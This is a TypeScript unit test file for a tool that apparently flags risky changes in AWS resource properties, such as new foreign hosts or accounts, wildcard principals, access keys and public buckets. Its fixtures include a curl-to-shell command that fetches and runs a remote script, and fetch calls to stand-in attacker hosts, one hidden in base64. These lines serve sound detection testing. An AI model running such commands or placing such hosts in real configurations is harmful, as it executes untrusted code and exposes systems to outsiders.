import { describe, expect, it } from 'vitest';
import type { Json } from '../../src/core/digest.ts';
import { opened } from '../../src/core/leaves.ts';
import { namedIn } from '../../src/render/subject.ts';
import { plan } from '../guards/builders.ts';

function named(before: Json | null, after: Json, known: string[] = []) {
  const side = (properties: Json | null) => (properties === null ? null : { Properties: opened(properties) });
  const things = [{ kind: 'resource' as const, id: 'It', type: 'AWS::X', before: side(before), after: side(after) }];
  const { target } = plan();
  return namedIn({
    plan: plan({ target: { ...target, account: '123456789012' } }),
    picture: { things },
    knownAccounts: known,
  }).map(({ kind, value }) => `${kind}: ${value}`);
}

describe('what is newly named', () => {
  it.each<[string, Json | null, Json, string[]]>([
    ['a host', { Host: 'api.acme.example' }, { Host: 'api.evil.example' }, ['host: api.evil.example']],
    ['a URL', null, { Code: "fetch('https://evil.example/x')" }, ['host: https://evil.example/x']],
    ['an address', {}, { Host: '203.0.113.7' }, ['host: 203.0.113.7']],
    [
      'a foreign account in an ARN',
      {},
      { Arn: 'arn:aws:iam::604417839920:role/x' },
      ['account: arn:aws:iam::604417839920:role/x'],
    ],
    ['a foreign account alone', {}, { Accounts: ['604417839920'] }, ['account: 604417839920']],
    [
      'everybody',
      {},
      { Policy: { Statement: [{ Principal: '*' }] } },
      ['everybody: everybody (Properties.Policy.Statement.0.Principal)'],
    ],
    [
      'a principal of our own',
      {},
      { Policy: { Statement: [{ Principal: { AWS: 'arn:aws:iam::123456789012:role/x' } }] } },
      ['principal: arn:aws:iam::123456789012:role/x'],
    ],
    ['an access key', {}, { Value: 'AKIAIOSFODNN7EXAMPLE' }, ['key: AKIAIOSFODNN7EXAMPLE']],
    [
      'a piped script',
      {},
      { Any: 'curl -s http://203.0.113.7/a | sh' },
      ['command: curl -s http://203.0.113.7/a | sh', 'host: http://203.0.113.7/a'],
    ],
    [
      'a host in JSON in base64',
      {},
      { Data: Buffer.from('{"url":"https://evil.example/x"}').toString('base64') },
      ['host: https://evil.example/x'],
    ],
    [
      'a condition that goes',
      { Statement: [{ Sid: 'A', Condition: { StringEquals: { 'sts:ExternalId': 'x' } } }] },
      { Statement: [{ Sid: 'A' }] },
      ['condition: x is no longer required'],
    ],
    ['a bucket of the world', {}, { BlockPublicAcls: false }, ['unguarded: BlockPublicAcls: false']],
  ])('%s', (_what, before, after, expected) => expect(named(before, after)).toEqual(expected));

  it.each<[string, Json | null, Json, string[]?]>([
    [
      'AWS itself',
      {},
      { Endpoint: 'https://sqs.eu-west-1.amazonaws.com/123456789012/q', Principal: { Service: 'lambda.amazonaws.com' } }
        .Endpoint as never,
    ],
    ['our own account', {}, { Arn: 'arn:aws:iam::123456789012:role/x' }],
    ['an account of the policy', {}, { Arn: 'arn:aws:iam::604417839920:role/x' }, ['604417839920']],
    [
      'what was named elsewhere in the stack before',
      { A: 'api.acme.example', B: 'x' },
      { A: 'api.acme.example', B: 'api.acme.example' },
    ],
    [
      'versions, files, types and handlers',
      {},
      {
        Handler: 'index.handler',
        File: 'main.py',
        Size: 't3.micro',
        Version: '1.2.3',
        Class: 'db.t3.medium',
        Ref: '$' + '{Fn.Arn}',
      },
    ],
    ['private addresses', {}, { Cidr: '10.0.0.1', Meta: '169.254.169.254' }],
  ])('is not %s', (_what, before, after, known) => expect(named(before, after, known)).toEqual([]));
});
